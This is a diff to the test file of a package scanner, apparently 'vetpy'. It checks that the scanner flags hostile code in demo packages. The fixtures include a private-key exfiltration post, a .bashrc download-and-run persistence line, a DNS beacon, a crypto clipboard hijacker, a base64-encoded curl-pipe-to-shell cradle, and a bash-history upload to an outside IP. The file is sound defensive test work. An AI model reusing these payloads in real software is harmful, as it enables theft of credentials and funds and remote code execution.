@@ -19,7 +19,7 @@ from evasions import (
     zip_with_modes,
 )
 from vetpy.acquire.archive import open_archive
-from vetpy.acquire.interface import Limits
+from vetpy.acquire.interface import Finding, Limits
 from vetpy.features.interface import PackageFeatures
 from vetpy.policy import hard_findings
 
@@ -36,6 +36,29 @@ def demo_features(files: dict[str, bytes]) -> PackageFeatures:
     from vetpy.features.extract import extract_features
 
     return extract_features(open_archive(sdist(files), target="d", filename="demo-1.0.tar.gz"))
+
+
+def the_finding(files: dict[str, bytes], kind: str, line: int) -> Finding:
+    """The one hard finding the features of a demo package show: its kind, file and line, the token the lab
+    reads from the cache, and the reason every interface reports."""
+    from vetpy.policy import feature_findings, policy_reasons, token_findings
+
+    features = demo_features(files)
+    [finding] = feature_findings(features)
+    [path] = files
+    assert token_findings(features.code_text) == (kind,)  # what the lab reads from the cache
+    assert (finding.kind, finding.file, finding.line) == (kind, f"demo-1.0/{path}", line)
+    [reason] = policy_reasons((finding,))
+    assert (reason.feature, reason.line) == (f"policy.{kind}", line)
+    return finding
+
+
+def no_finding(files: dict[str, bytes]) -> bool:
+    """Whether the features of a demo package show no hard finding, by evidence or by cached token."""
+    from vetpy.policy import feature_findings, token_findings
+
+    features = demo_features(files)
+    return feature_findings(features) == () and token_findings(features.code_text) == ()
 
 
 def wheel(files: dict[str, bytes], wheel_file: bytes = PURE) -> bytes:
@@ -135,105 +158,69 @@ def test_huge_pth_is_an_incomplete_scan() -> None:
 
 
 def test_custody_exfil_from_the_features_evidence() -> None:
-    from vetpy.policy import feature_findings, policy_reasons, token_findings
-
     helper = (
         b"import requests\n\n\ndef get_balance(address, private_key):\n"
         b"    requests.post('http://203.0.113.5:8080/b', json={'a': address, 'k': private_key})\n"
         b"CHAIN = 'solana-mainnet'\n"
     )
-    features = demo_features({"demo/client.py": helper})
-    [finding] = feature_findings(features)
-    assert token_findings(features.code_text) == ("custody_exfil",)  # what the lab reads from the cache
-    assert (finding.kind, finding.file, finding.line) == ("custody_exfil", "demo-1.0/demo/client.py", 5)
+    finding = the_finding({"demo/client.py": helper}, "custody_exfil", 5)
     assert "(private_key)" in finding.message and "(203.0.113.5)" in finding.message
-    [reason] = policy_reasons((finding,))
-    assert reason.feature == "policy.custody_exfil" and reason.line == 5
     # the same helper sending to the address its caller gives: no finding
     honest = helper.replace(b"'http://203.0.113.5:8080/b'", b"address")
-    features = demo_features({"demo/client.py": honest})
-    assert feature_findings(features) == () and token_findings(features.code_text) == ()
+    assert no_finding({"demo/client.py": honest})
 
 
 def test_persistence_payload_from_the_features_evidence() -> None:
-    from vetpy.policy import feature_findings, policy_reasons, token_findings
-
     dropper = (
         b"import os\n\n\ndef init_shell():\n"
         b"    rc = os.path.join(os.path.expanduser('~'), '.bashrc')\n"
         b"    with open(rc, 'a') as fh:\n"
         b"        fh.write('\\ncurl -s http://203.0.113.9/i.sh | bash\\n')\n"
     )
-    features = demo_features({"demo/shell.py": dropper})
-    [finding] = feature_findings(features)
-    assert token_findings(features.code_text) == ("persistence_payload",)  # what the lab reads from the cache
-    assert (finding.kind, finding.file, finding.line) == ("persistence_payload", "demo-1.0/demo/shell.py", 7)
+    finding = the_finding({"demo/shell.py": dropper}, "persistence_payload", 7)
     assert "'~/.bashrc'" in finding.message
-    [reason] = policy_reasons((finding,))
-    assert reason.feature == "policy.persistence_payload" and reason.line == 7
     # the same installer adding its own command to the shell's start-up file: no finding
     honest = dropper.replace(b"curl -s http://203.0.113.9/i.sh | bash", b'eval \\"$(demo init -)\\"')
-    features = demo_features({"demo/shell.py": honest})
-    assert feature_findings(features) == () and token_findings(features.code_text) == ()
+    assert no_finding({"demo/shell.py": honest})
 
 
 def test_dns_beacon_from_the_features_evidence() -> None:
-    from vetpy.policy import feature_findings, token_findings
-
     probe = (
         b"import socket, getpass\n\n\ndef ping():\n"
         b"    host = getpass.getuser() + '.' + socket.gethostname() + '.abc123.oast.fun'\n"
         b"    socket.gethostbyname(host)\n"
     )
-    features = demo_features({"demo/util.py": probe})
-    [finding] = feature_findings(features)
-    assert token_findings(features.code_text) == ("dns_beacon",)
-    assert (finding.kind, finding.file, finding.line) == ("dns_beacon", "demo-1.0/demo/util.py", 6)
+    finding = the_finding({"demo/util.py": probe}, "dns_beacon", 6)
     assert "getpass.getuser, line 5" in finding.message and "abc123.oast.fun (oast)" in finding.message
     # the same name under a placeholder domain: a flow for the model, no finding
     honest = probe.replace(b".abc123.oast.fun", b".corp.example.net")
-    features = demo_features({"demo/util.py": honest})
-    assert feature_findings(features) == () and token_findings(features.code_text) == ()
+    assert no_finding({"demo/util.py": honest})
 
 
 def test_clipboard_hijack_from_the_features_evidence() -> None:
-    from vetpy.policy import feature_findings, token_findings
-
     clipper = (
         b"import re, pyperclip\n\n\ndef watch():\n"
         b"    text = pyperclip.paste()\n"
         b"    if re.match(r'^0x[a-fA-F0-9]{40}$', text):\n"
         b"        pyperclip.copy('0x52908400098527886E0F7030069857D2E4169EE7')\n"
     )
-    features = demo_features({"demo/watch.py": clipper})
-    [finding] = feature_findings(features)
-    assert token_findings(features.code_text) == ("clipboard_hijack",)
-    assert (finding.kind, finding.file, finding.line) == ("clipboard_hijack", "demo-1.0/demo/watch.py", 7)
+    the_finding({"demo/watch.py": clipper}, "clipboard_hijack", 7)
     # the copy of what was pasted, upper-cased: a clipboard manager
     honest = clipper.replace(b"'0x52908400098527886E0F7030069857D2E4169EE7'", b"text.upper()")
     honest = honest.replace(b"r'^0x[a-fA-F0-9]{40}$'", b"r'^[a-z]+$'")
-    features = demo_features({"demo/watch.py": honest})
-    assert feature_findings(features) == () and token_findings(features.code_text) == ()
+    assert no_finding({"demo/watch.py": honest})
 
 
 def test_hidden_payload_from_the_features_evidence() -> None:
     import base64
 
-    from vetpy.policy import feature_findings, policy_reasons, token_findings
-
     cradle = base64.b64encode(b"curl -s http://203.0.113.9/x.sh | sh")
     plugin = b"import os, base64\n\n\ndef update():\n    os.system(base64.b64decode('" + cradle + b"'))\n"
-    features = demo_features({"demo/plugin.py": plugin})
-    [finding] = feature_findings(features)
-    assert token_findings(features.code_text) == ("hidden_payload",)  # what the lab reads from the cache
-    assert (finding.kind, finding.file, finding.line) == ("hidden_payload", "demo-1.0/demo/plugin.py", 5)
+    finding = the_finding({"demo/plugin.py": plugin}, "hidden_payload", 5)
     assert "download-and-run" in finding.message
-    [reason] = policy_reasons((finding,))
-    assert reason.feature == "policy.hidden_payload" and reason.line == 5
     # the same command written as it is: the model judges it, no finding
     plain = b"import os\n\n\ndef update():\n    os.system('curl -s http://203.0.113.9/x.sh | sh')\n"
-    features = demo_features({"demo/plugin.py": plain})
-    assert feature_findings(features) == () and token_findings(features.code_text) == ()
+    assert no_finding({"demo/plugin.py": plain})
 
 
 def test_the_co_occurrence_message_is_the_walks() -> None:
@@ -247,23 +234,15 @@ def test_the_co_occurrence_message_is_the_walks() -> None:
 
 
 def test_credential_upload_from_the_features_evidence() -> None:
-    from vetpy.policy import feature_findings, policy_reasons, token_findings
-
     grab = (
         b"import os, shutil\n\n\ndef grab(user):\n    hist = '/home/' + user + '/.bash_history'\n"
         b"    shutil.copyfile(hist, '/tmp/x/h')\n"
         b"    os.system('curl -k -F \"file=@/tmp/x.zip\" https://198.51.100.7/upload')\n"
     )
-    features = demo_features({"demo/sync.py": grab})
-    [finding] = feature_findings(features)
-    assert token_findings(features.code_text) == ("credential_upload",)  # what the lab reads from the cache
-    assert (finding.kind, finding.file, finding.line) == ("credential_upload", "demo-1.0/demo/sync.py", 7)
+    finding = the_finding({"demo/sync.py": grab}, "credential_upload", 7)
     assert ".bash_history" in finding.message and "line 5" in finding.message
-    [reason] = policy_reasons((finding,))
-    assert reason.feature == "policy.credential_upload"
     # the same upload to the address its caller gives: no finding
     honest = grab.replace(b"def grab(user):", b"def grab(user, url):").replace(
         b"https://198.51.100.7/upload')", b"' + url)"
     )
-    features = demo_features({"demo/sync.py": honest})
-    assert feature_findings(features) == () and token_findings(features.code_text) == ()
+    assert no_finding({"demo/sync.py": honest})
